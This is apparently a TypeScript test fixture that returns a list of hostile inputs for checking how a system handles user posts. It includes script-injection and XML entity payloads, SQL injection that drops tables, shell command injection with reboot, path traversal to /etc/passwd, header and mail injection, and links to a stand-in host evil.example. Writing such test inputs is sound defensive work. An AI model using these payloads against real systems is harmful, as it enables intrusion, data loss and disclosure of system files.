/**
 * Returns texts that somebody might post to do harm, or to test for a vulnerability. All are invented, and some are
 * generated in large numbers.
 */
export function hostileTexts(): readonly string[] {
  const call = 'alert(1)';
  const markup = [
    `<script>${call}</script>`,
    `</script><script>${call}</script>`,
    `<ScRiPt src=//evil.example></sCrIpT>`,
    `<img src=x onerror=${call}>`,
    `<svg onload=${call}>`,
    `<svg><animate onbegin=${call} attributeName=x></svg>`,
    `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
    `<iframe srcdoc="&lt;script&gt;${call}&lt;/script&gt;">`,
    `<a href="javascript:${call}">x</a>`,
    `"><script>${call}</script>`,
    `'><img src=x onerror=${call}>`,
    `--><script>${call}</script>`,
    `]]><script>${call}</script>`,
    `]]>]]><script>${call}</script>]]>`,
    `<![CDATA[<script>${call}</script>]]>`,
    `<!ENTITY x SYSTEM "file:///etc/passwd">&x;`,
    `<!DOCTYPE x [<!ENTITY a "b">]>&a;`,
    `</title><script>${call}</script>`,
    `</textarea><script>${call}</script>`,
    `</summary></content></entry><entry><title>x</title></entry>`,
    `</description></item><item><title>x</title></item>`,
    `<meta http-equiv=refresh content="0;url=//evil.example">`,
    `0; url=//evil.example" http-equiv="refresh`,
    `" onmouseover="${call}" x="`,
    `<base href=//evil.example>`,
    `<form action=//evil.example><input type=submit></form>`,
    `<style>@import '//evil.example';</style>`,
    `<link rel=stylesheet href=//evil.example>`,
    `&lt;script&gt;${call}&lt;/script&gt;`,
    `&amp;lt;b&amp;gt; &#x3c;b&#x3e; &#60;b&#62;`,
    `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
  ];
  const programs = [
    `'; drop table notes; --`,
    `" or 1=1 --`,
    `'); delete from members; select ('`,
    `$1 $2 :id ?`,
    `\\'; select pg_sleep(9); --`,
    `{{7*7}} {{constructor.constructor('${call}')()}}`,
    `\${7*7} #{7*7} <%= 7*7 %> @(7*7)`,
    `__proto__ constructor prototype`,
    `{"__proto__":{"isModerator":true}}`,
    `$(reboot) \`reboot\` | reboot ; reboot`,
    `../../../../etc/passwd`,
    `%00 %0d%0aset-cookie:x=1 %3Cscript%3E`,
    `=HYPERLINK("//evil.example")`,
    `![x](//evil.example/x.png) [x](javascript:${call})`,
    `[](<javascript:${call}>) <javascript:${call}>`,
    `a\r\nbcc: someone@evil.example`,
    `.\r\n.\r\nQUIT`,
    `> quoted\n>> and again`,
    `-- \nnot a signature`,
    `From here\nFrom there`,
    `=?utf-8?q?subject?=`,
  ];
  const signs = [
    '\u202eturned around\u202c',
    '\u2066isolated\u2069',
    '\u200bnothing\u200c\u200d\ufeff',
    '\u0000',
    'nul\u0000inside',
    '\u001b[31mred\u001b[0m\u001b]0;title\u0007',
    '\u009b31m',
    '\ud800',
    'lone \udfff surrogate',
    '\ufffe\uffff',
    '\u{1fffe}',
    '\u{e0001}\u{e0041}',
    `e${'\u0301'.repeat(200)}`,
    `H${'\u0489'.repeat(8)}e`,
    '👩‍👩‍👧‍👦'.repeat(150),
    '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
    '\u{1f1e8}\u{1f1e6}'.repeat(100),
    '﷽'.repeat(300),
    '\u3164\u115f',
    'ʇxǝʇ uʍop ǝpᴉsdn',
    'القطة السوداء hid behind שולחן',
    'Zażółć gęślą jaźń',
    '\u2028line\u2029paragraph',
    '\u00a0\u00a0',
    'İıſß',
  ];
  const people = [
    'Call me: 416-555-0199',
    'Appelle au 514 555 0123',
    'someone@example.org',
    'Plate CABC 123',
    'Lives at 221 Example Street',
  ];
  const long = ['a'.repeat(5_001), 'é'.repeat(5_000), 'a '.repeat(2_499), '\n'.repeat(4_000), '<'.repeat(5_000)];
  const every = [...markup, ...programs, ...signs, ...people, ...long];
  // The same texts surrounded by harmless words, and in capitals.
  const hidden = [...markup, ...programs, ...signs].flatMap((text) => [`Seen near the park: ${text} (again)`]);
  const loud = [...markup, ...programs].map((text) => text.toUpperCase());
  return [...new Set([...every, ...hidden, ...loud])];
}
